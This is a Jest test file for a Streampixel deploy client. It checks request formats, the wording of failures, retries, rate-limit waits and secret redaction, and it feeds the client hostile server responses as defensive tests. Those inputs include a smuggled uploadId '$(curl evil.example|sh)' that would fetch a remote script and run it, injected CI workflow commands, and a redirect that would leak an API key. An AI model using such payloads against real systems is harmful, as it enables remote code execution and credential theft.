/**
 * StreampixelClient against a scripted server on 127.0.0.1: what it sends,
 * how each answer reads to a user, what is retried and how long it waits
 * (an injected sleep stands in for the 2-minute rate-limit wait).
 */
import { afterEach, describe, expect, it } from '@jest/globals';
import type { ServerResponse } from 'node:http';
import { type ClientOptions, StreampixelClient } from '../src/streampixel/client.js';
import { DeployFailure } from '../src/streampixel/errors.js';
import { ACTION_VERSION } from '../src/version.js';
import { ACTION_TERMS } from '../src/terms.js';
import {
  type Answer,
  closeAll,
  flood,
  json,
  type Loopback,
  type Seen,
  startHttp,
  timed,
} from './loopback.js';

afterEach(closeAll);

const KEY = 'spk_live_7d1e0c9b8a7f6e5d4c3b2a1f0e9d8c7b';
const USER = '64b7f0c2a1d3e4f5a6b7c8d9';
const PROJECT = '665a2b3c4d5e6f7a8b9c0d1e';
const UPLOAD = '665a2b3c4d5e6f7a8b9c0e1f';
const SIGNATURE = 'f00dfacef00dfacef00dfacef00dface';
const FILE_URL = `https://bucket.example/Game.zip?X-Amz-Expires=3600&X-Amz-Signature=${SIGNATURE}`;

interface Harness {
  server: Loopback;
  client: StreampixelClient;
  log: string[];
  debug: string[];
  waits: number[];
}

async function harness(answer: Answer, options: Partial<ClientOptions> = {}): Promise<Harness> {
  const server = await startHttp(answer);
  const log: string[] = [];
  const debug: string[] = [];
  const waits: number[] = [];
  const client = new StreampixelClient({
    apiUrl: `${server.origin}/pixelStripeApi`,
    apiKey: KEY,
    userId: USER,
    terms: ACTION_TERMS,
    timeoutMs: 2000,
    maxAttempts: 3,
    log: (l) => log.push(l),
    debug: (l) => debug.push(l),
    sleep: async (ms) => {
      waits.push(ms);
    },
    ...options,
  });
  return { server, client, log, debug, waits };
}

/** Answers with `answers[n - 1]`, the last one repeating. */
function script(...answers: ((res: ServerResponse, req: Seen) => void)[]): Answer {
  return (req, res, n) => (answers[Math.min(n, answers.length) - 1] ?? answers[0])?.(res, req);
}

const queued = (res: ServerResponse): void =>
  json(res, 201, { message: 'Build queued for processing', uploadId: UPLOAD });

async function failureOf(work: Promise<unknown>): Promise<DeployFailure> {
  const err = await work.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(DeployFailure);
  return err as DeployFailure;
}

/** What a user reads of a failure. */
const shown = (f: DeployFailure): string => `${f.title}\n${f.message}\n${f.hint}`;

function expectNoSecret(text: string): void {
  for (const secret of [KEY, USER, SIGNATURE]) {
    expect(text).not.toContain(secret);
    // Nor a piece of one, left by a cut.
    for (let i = 0; i + 12 <= secret.length; i++)
      expect(text).not.toContain(secret.slice(i, i + 12));
  }
}

describe('what the client sends', () => {
  it('upload-file: a JSON body with the credentials, no Authorization header, our User-Agent', async () => {
    const h = await harness(script(queued));
    const accepted = await h.client.upload(PROJECT, FILE_URL, false);
    expect(accepted).toEqual({ message: 'Build queued for processing', uploadId: UPLOAD });
    expect(h.server.requests).toHaveLength(1);
    const [req] = h.server.requests;
    expect(req?.method).toBe('POST');
    expect(req?.url).toBe('/pixelStripeApi/projects/upload-file');
    expect(JSON.parse(req?.body ?? '')).toEqual({
      apiKey: KEY,
      userId: USER,
      projectId: PROJECT,
      fileUrl: FILE_URL,
      autoRelease: false,
    });
    expect(req?.headers['content-type']).toBe('application/json');
    expect(req?.headers.authorization).toBeUndefined();
    expect(req?.headers['user-agent']).toMatch(
      new RegExp(`^streampixel-deploy/${ACTION_VERSION.replace(/\./g, '\\.')} `),
    );
    expect(req?.headers.accept).toBe('application/json');
  });

  it('distribute-file: projectId and uploadId with the credentials', async () => {
    const h = await harness(script((res) => json(res, 200, { message: 'Distribution triggered' })));
    expect(await h.client.distribute(PROJECT, UPLOAD)).toEqual({
      message: 'Distribution triggered',
    });
    const [req] = h.server.requests;
    expect(req?.url).toBe('/pixelStripeApi/projects/distribute-file');
    expect(JSON.parse(req?.body ?? '')).toEqual({
      apiKey: KEY,
      userId: USER,
      projectId: PROJECT,
      uploadId: UPLOAD,
    });
    expect(req?.headers.authorization).toBeUndefined();
  });

  it('project status: a GET with userId and apikey in the query and no body', async () => {
    const h = await harness(
      script((res) =>
        json(res, 200, {
          _id: PROJECT,
          files: [
            { _id: UPLOAD, status: 'Downloading Files', objection: '', date: '2025-06-01' },
            { _id: 42, status: 'ignored: no string id' },
          ],
        }),
      ),
    );
    expect(await h.client.projectFiles(PROJECT)).toEqual([
      { id: UPLOAD, status: 'Downloading Files', date: '2025-06-01' },
    ]);
    const [req] = h.server.requests;
    expect(req?.method).toBe('GET');
    const url = new URL(req?.url ?? '', 'http://x');
    expect(url.pathname).toBe(`/pixelStripeApi/projects/${PROJECT}`);
    expect(Object.fromEntries(url.searchParams)).toEqual({ userId: USER, apikey: KEY });
    expect(req?.body).toBe('');
    expect(req?.headers.authorization).toBeUndefined();
  });

  it('debug lines show method, URL without query, status and timing; never a body or the key', async () => {
    const h = await harness(
      script(
        (res) => json(res, 503, { message: 'busy' }),
        (res) => json(res, 200, { files: [{ _id: UPLOAD, status: 'pending' }] }),
      ),
    );
    await h.client.projectFiles(PROJECT);
    const base = `GET ${h.server.origin}/pixelStripeApi/projects/${PROJECT}?…`;
    expect(h.debug).toHaveLength(2);
    expect(h.debug[0]).toMatch(new RegExp(`^${escape(base)} → HTTP 503 in \\d+ ms$`));
    expect(h.debug[1]).toMatch(new RegExp(`^${escape(base)} → HTTP 200 in \\d+ ms$`));
    expectNoSecret(h.debug.join('\n'));
    expect(h.debug.join('\n')).not.toMatch(/busy|pending/);
  });
});

const escape = (s: string): string => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');

describe('how each refusal reads', () => {
  const cases: [string, 'upload' | 'distribute', number, string, RegExp, RegExp][] = [
    [
      '401 Invalid User',
      'upload',
      401,
      'Invalid User',
      /user-id does not match the API key/,
      /Copy User ID/,
    ],
    [
      '401 Unauthorized: Invalid API Key',
      'upload',
      401,
      'Unauthorized: Invalid API Key',
      /invalid API key/,
      /rotated/,
    ],
    ['403 Forbidden', 'upload', 403, 'Forbidden', /no write access/, /READONLY/],
    [
      '404 Project not found',
      'upload',
      404,
      'Project not found',
      /project not found/,
      /projectdetail/,
    ],
    [
      '404 Project not found on distribute',
      'distribute',
      404,
      'Project not found',
      /project not found/,
      /project-id/,
    ],
    [
      '404 File not found in project on distribute',
      'distribute',
      404,
      'File not found in project',
      /upload not found in the project/,
      /upload-id/,
    ],
    [
      '400 Missing required field',
      'upload',
      400,
      'Missing required field: fileUrl',
      /request refused/,
      /inputs named/,
    ],
    ['418, with the API message', 'upload', 418, "I'm a teapot", /HTTP 418/, /Re-run/],
  ];
  it.each(cases)('%s', async (_name, endpoint, status, message, title, hint) => {
    const h = await harness(script((res) => json(res, status, { message })));
    const call =
      endpoint === 'upload'
        ? h.client.upload(PROJECT, FILE_URL, true)
        : h.client.distribute(PROJECT, UPLOAD);
    const failure = await failureOf(call);
    expect(failure.title).toMatch(title);
    expect(failure.hint).toMatch(hint);
    expect(failure.message).toContain(`HTTP ${status}: "${message}"`);
    expect(failure.details).toMatchObject({ httpStatus: status, apiMessage: message });
    expect(h.server.requests).toHaveLength(1);
    expect(h.log).toEqual([]);
    expectNoSecret(shown(failure));
  });

  it('429 after the last attempt: rate limit, with the 2-minute rule', async () => {
    const h = await harness(
      script((res) => json(res, 429, { message: 'Rate limit exceeded. Try again in 2 minutes.' })),
      { maxAttempts: 1 },
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.title).toBe('Streampixel: rate limit');
    expect(failure.message).toContain('HTTP 429: "Rate limit exceeded. Try again in 2 minutes."');
    expect(failure.hint).toMatch(/one upload or distribute request per 2 minutes/);
    expect(h.server.requests).toHaveLength(1);
  });

  it('500 on upload-file: not repeated, and says the build may already be queued', async () => {
    const h = await harness(script((res) => json(res, 500, { message: 'Internal server error' })));
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(h.server.requests).toHaveLength(1);
    expect(failure.message).toBe(
      'Streampixel failed to answer upload-file (HTTP 500: "Internal server error"). The request was sent, so the build may already be queued.',
    );
    expect(failure.hint).toMatch(/dashboard before re-running/);
  });

  it('500 on distribute-file: not repeated, and says the distribution may have started', async () => {
    const h = await harness(script((res) => json(res, 500, { message: 'Internal server error' })));
    const failure = await failureOf(h.client.distribute(PROJECT, UPLOAD));
    expect(h.server.requests).toHaveLength(1);
    expect(failure.message).toMatch(/the distribution may already have started/);
  });

  it('500 on the status GET is retried', async () => {
    const h = await harness(
      script(
        (res) => json(res, 500, { message: 'Internal server error' }),
        (res) => json(res, 200, { files: [] }),
      ),
    );
    expect(await h.client.projectFiles(PROJECT)).toEqual([]);
    expect(h.server.requests).toHaveLength(2);
    expect(h.log).toHaveLength(1);
  });
});

describe('after a 502 or 504 to a write (a gateway may have passed it on)', () => {
  const gateway = (status: number) => (res: ServerResponse) =>
    json(res, status, { message: 'upstream trouble' });
  const rateLimited = (res: ServerResponse): void =>
    json(res, 429, { message: 'Rate limit exceeded. Try again in 2 minutes.' });

  it('504 to upload-file: not sent again by the client; the failure says it may be queued and carries the ambiguity', async () => {
    const h = await harness(script(gateway(504), queued), { maxAttempts: 3 });
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(h.server.requests).toHaveLength(1);
    expect(failure.details.ambiguous).toBe('HTTP 504');
    expect(failure.message).toBe(
      'Streampixel failed to answer upload-file (HTTP 504: "upstream trouble"). The request was sent, so the build may already be queued.',
    );
    expect(failure.hint).toMatch(/dashboard before re-running/);
  });

  it('502 to distribute-file: the same, the distribution may have started', async () => {
    const h = await harness(script(gateway(502)));
    const failure = await failureOf(h.client.distribute(PROJECT, UPLOAD));
    expect(h.server.requests).toHaveLength(1);
    expect(failure.details.ambiguous).toBe('HTTP 502');
    expect(failure.message).toMatch(/so the distribution may already have started\.$/);
  });

  it('no answer once sent: ambiguous too', async () => {
    const h = await harness(() => undefined, { timeoutMs: 300 });
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(h.server.requests).toHaveLength(1);
    expect(failure.details.ambiguous).toMatch(/no complete answer/);
  });

  it('a resend takes a 429 as final: the first request may have caused it', async () => {
    const h = await harness(script(rateLimited, queued), { maxAttempts: 3 });
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true, true));
    expect(h.server.requests).toHaveLength(1);
    expect(h.waits).toEqual([]);
    expect(failure.details.httpStatus).toBe(429);
  });

  it('503 then 429: refused both times, so a plain rate limit', async () => {
    const h = await harness(script(gateway(503), rateLimited), { maxAttempts: 2 });
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.message).not.toMatch(/queued/);
    expect(failure.hint).toMatch(/Wait 2 minutes and re-run/);
  });
});

describe('waits', () => {
  it('429 without Retry-After: waits the documented 2 minutes, says so, then uploads', async () => {
    const h = await harness(
      script(
        (res) => json(res, 429, { message: 'Rate limit exceeded. Try again in 2 minutes.' }),
        queued,
      ),
    );
    const accepted = await h.client.upload(PROJECT, FILE_URL, true);
    expect(accepted.uploadId).toBe(UPLOAD);
    expect(h.waits).toEqual([120_000]);
    expect(h.server.requests).toHaveLength(2);
    expect(h.log).toEqual([
      'upload-file: attempt 1 of 3 failed (HTTP 429 (rate limited: Streampixel allows one upload per 2 minutes per user, no Retry-After given)); retrying in 120.0 s.',
    ]);
  });

  it('429 with Retry-After in seconds, and as an HTTP date', async () => {
    const inTwentySeconds = new Date(Math.ceil(Date.now() / 1000) * 1000 + 20_000).toUTCString();
    const h = await harness(
      script(
        (res) => json(res, 429, { message: 'slow down' }, { 'retry-after': '7' }),
        (res) => json(res, 429, { message: 'slow down' }, { 'retry-after': inTwentySeconds }),
        queued,
      ),
    );
    await h.client.upload(PROJECT, FILE_URL, true);
    expect(h.server.requests).toHaveLength(3);
    expect(h.waits[0]).toBe(7000);
    expect(h.waits[1]).toBeGreaterThan(18_000);
    expect(h.waits[1]).toBeLessThanOrEqual(21_000);
  });

  it('a Retry-After over 2 minutes ends the retries at once', async () => {
    const h = await harness(
      script(
        (res) => json(res, 503, { message: 'maintenance' }, { 'retry-after': '3600' }),
        queued,
      ),
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(h.server.requests).toHaveLength(1);
    expect(h.waits).toEqual([]);
    expect(h.log).toEqual([
      'upload-file: HTTP 503; the server asks to wait 3600 s, longer than the 120 s this action waits: giving up.',
    ]);
    expect(failure.message).toContain('HTTP 503: "maintenance"');
  });

  it('a timeout after the upload was sent: not repeated, says it may be queued', async () => {
    const h = await harness(() => undefined, { timeoutMs: 300 });
    const [failure, ms] = await timed(() => failureOf(h.client.upload(PROJECT, FILE_URL, true)));
    expect(h.server.requests).toHaveLength(1);
    expect(ms).toBeLessThan(1500);
    expect(failure.title).toBe('Streampixel: no answer after the request was sent');
    expect(failure.message).toBe(
      `upload-file to ${h.server.origin}/pixelStripeApi failed: no complete answer within the time limit. The request was sent, so the build may already be queued.`,
    );
    expect(failure.hint).toMatch(/one build at a time per project/);
  });
});

describe('an api-url that is not the API', () => {
  it.each([
    [
      'an Express 404',
      404,
      'text/html',
      '<!DOCTYPE html><pre>Cannot POST /projects/upload-file</pre>',
    ],
    ['a framework 405', 405, 'application/json', '{"error":"Method Not Allowed"}'],
    ['a bare 404', 404, 'text/plain', 'Not Found'],
  ])(
    '%s: "not the API", naming api-url and its default, never "project not found"',
    async (_n, status, type, body) => {
      const h = await harness((_req, res) => {
        res.writeHead(status, { 'content-type': type });
        res.end(body);
      });
      const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
      expect(failure.title).toBe('Streampixel: api-url is not the API');
      expect(failure.message).toContain(`HTTP ${status}`);
      expect(failure.hint).toContain('https://api.streampixel.io/pixelStripeApi');
      expect(failure.details.input).toBe('api-url');
    },
  );

  it("the API's own 404 is still a missing project", async () => {
    const h = await harness((_req, res) => json(res, 404, { message: 'Project not found' }));
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.title).toBe('Streampixel: project not found');
  });
});

describe('hostile answers', () => {
  it('a redirect is not followed: the other origin gets nothing, the error names it without its query', async () => {
    const elsewhere = await startHttp((_req, res) => json(res, 200, {}));
    const h = await harness(
      script((res) => {
        res.writeHead(307, { location: `${elsewhere.origin}/collect?apiKey=${KEY}` });
        res.end();
      }),
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.title).toBe('Streampixel: api-url redirects');
    expect(failure.message).toContain(`redirecting to ${elsewhere.origin}/collect?…`);
    expect(failure.details.input).toBe('api-url');
    expect(h.server.requests).toHaveLength(1);
    expect(elsewhere.connections).toBe(0);
    expectNoSecret(shown(failure));
  });

  it.each([
    ['unparseable', 'http://[::1', /an unreadable Location \("http:\/\/\[: ?:1"\)/],
    ['missing', undefined, /no Location given/],
    [
      'relative',
      '/v2/projects/upload-file?k=1',
      /redirecting to http:\/\/127\.0\.0\.1:\d+\/v2\/projects\/upload-file\?…\./,
    ],
  ])('a redirect with a %s Location reads cleanly', async (_name, location, expected) => {
    const h = await harness(
      script((res) => {
        res.writeHead(301, location ? { location } : {});
        res.end();
      }),
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.message).toMatch(expected);
  });

  it('an error that echoes the request back shows none of the secrets, even obfuscated or at the cut', async () => {
    const h = await harness(
      script((res, req) =>
        json(res, 400, {
          // Padded so that a key would straddle the 300-character cut; split by invisible characters.
          message: `${'x'.repeat(280)} ${req.body} ${KEY.replace('_live', '\u200b_live\u001b[0m')} ${encodeURIComponent(req.body)}`,
        }),
      ),
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.message).toContain('***');
    expectNoSecret(shown(failure));
    expectNoSecret(failure.details.apiMessage ?? '');
  });

  it('an HTML error page from a proxy reads as its status and a short clean excerpt', async () => {
    const page =
      '<html><head><title>502 Bad Gateway</title><style>body{color:red}</style>' +
      '<script>var x = "<b>";</script></head><body><center><h1>502 Bad Gateway</h1></center>' +
      '<hr><center>nginx/1.25 &amp; friends</center></body></html>';
    const h = await harness(
      script((res) => {
        res.writeHead(502, { 'content-type': 'text/html' });
        res.end(page);
      }),
      { maxAttempts: 1 },
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.message).toContain(
      'HTTP 502: "502 Bad Gateway 502 Bad Gateway nginx/1.25 & friends"',
    );
    expect(failure.message).not.toMatch(/[<>]|color|var x/);
  });

  it('a hostile HTML body does not hang the parser (the status answer is read up to 2 MiB)', async () => {
    const h = await harness(
      script((res) => {
        res.writeHead(500, { 'content-type': 'text/html' });
        res.end('<'.repeat(2 * 1024 * 1024 - 10));
      }),
      { maxAttempts: 1 },
    );
    const [failure, ms] = await timed(() => failureOf(h.client.projectFiles(PROJECT)));
    expect(failure.details.httpStatus).toBe(500);
    expect(ms).toBeLessThan(1000);
  });

  it('a multi-megabyte error is read only in part and shown short', async () => {
    let flow: { accepted: () => number } | undefined;
    const total = 64 * 1024 * 1024;
    const h = await harness(
      script((res) => {
        flow = flood(res, 500, { 'content-type': 'application/json' }, total, '{"message":"', 'A');
      }),
    );
    const [failure, ms] = await timed(() => failureOf(h.client.upload(PROJECT, FILE_URL, true)));
    expect(ms).toBeLessThan(2000);
    expect(failure.message.length).toBeLessThan(600);
    expect(failure.message).toMatch(/HTTP 500: "\{"message":"A+…"\)/);
    expect(flow?.accepted()).toBeLessThan(total / 2);
  });

  it('a web page answering 200 to upload-file is not taken for an accepted build', async () => {
    const h = await harness(
      script((res) => {
        res.writeHead(200, { 'content-type': 'text/html' });
        res.end('<!doctype html><title>Streampixel Dashboard</title><p>Sign in</p>');
      }),
    );
    const failure = await failureOf(h.client.upload(PROJECT, FILE_URL, true));
    expect(failure.title).toBe('Streampixel: api-url is not the API');
    expect(failure.message).toContain('"Streampixel Dashboard Sign in"');
  });

  it('an uploadId that is not an ID is not passed on (it becomes an output that scripts paste)', async () => {
    const h = await harness(
      script((res) => json(res, 201, { message: 'ok', uploadId: '$(curl evil.example|sh)' })),
    );
    const accepted = await h.client.upload(PROJECT, FILE_URL, true);
    expect(accepted.uploadId).toBeUndefined();
    expect(h.log).toEqual([
      "Streampixel's answer carried an uploadId that is not an ID (23 characters); ignoring it.",
    ]);
  });

  it('an uploadId that is the API key is not an ID either', async () => {
    const h = await harness(script((res) => json(res, 201, { message: 'ok', uploadId: KEY })));
    const accepted = await h.client.upload(PROJECT, FILE_URL, true);
    expect(accepted.uploadId).toBeUndefined();
    expect(h.log).toEqual([
      "Streampixel's answer carried an uploadId that is not an ID (41 characters); ignoring it.",
    ]);
  });

  it('an accepted upload whose answer is too long to read whole is still accepted', async () => {
    const h = await harness(
      script((res) =>
        json(res, 201, { message: 'Build queued', uploadId: UPLOAD, padding: 'p'.repeat(40_000) }),
      ),
    );
    expect(await h.client.upload(PROJECT, FILE_URL, true)).toEqual({
      message: 'Build queued',
      uploadId: UPLOAD,
    });
  });

  it.each([
    ['a 200 with no list of uploads', (res: ServerResponse) => json(res, 200, { project: {} })],
    ['an empty 200', (res: ServerResponse) => res.writeHead(200).end()],
    [
      'a 200 that is not JSON',
      (res: ServerResponse) => res.writeHead(200, { 'content-type': 'text/plain' }).end('OK'),
    ],
    [
      'a 200 too large to read',
      (res: ServerResponse) => json(res, 200, { files: [], padding: 'p'.repeat(3 * 1024 * 1024) }),
    ],
    [
      'a web page',
      (res: ServerResponse) =>
        res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><p>Sign in</p>'),
    ],
  ])(
    'a status answer that can never be right (%s) is marked as a wrong api-url',
    async (_name, answer) => {
      const h = await harness(script(answer));
      const failure = await failureOf(h.client.projectFiles(PROJECT));
      expect(failure.details.input).toBe('api-url');
      expect(failure.hint).toMatch(/api-url/);
      expect(h.server.requests).toHaveLength(1);
    },
  );

  it('server text loses its line breaks, escapes and workflow commands', async () => {
    const h = await harness(
      script((res) =>
        json(res, 200, {
          files: [
            {
              _id: UPLOAD,
              status: 'Reject\n::error::owned\r::add-mask::x\u2028##[error]y\u001b[31m',
              objection: '  ::stop-commands::t\n ::set-output name=a::b',
            },
          ],
        }),
      ),
    );
    const [file] = await h.client.projectFiles(PROJECT);
    const text = `${file?.status}\n${file?.objection}`;
    for (const line of text.split('\n')) {
      // eslint-disable-next-line no-control-regex
      expect(line).not.toMatch(/::|##\[|[\u0000-\u001f\u2028]/);
    }
    expect(file?.status).toBe('Reject : :error: :owned : :add-mask: :x # #[error]y');
  });
});
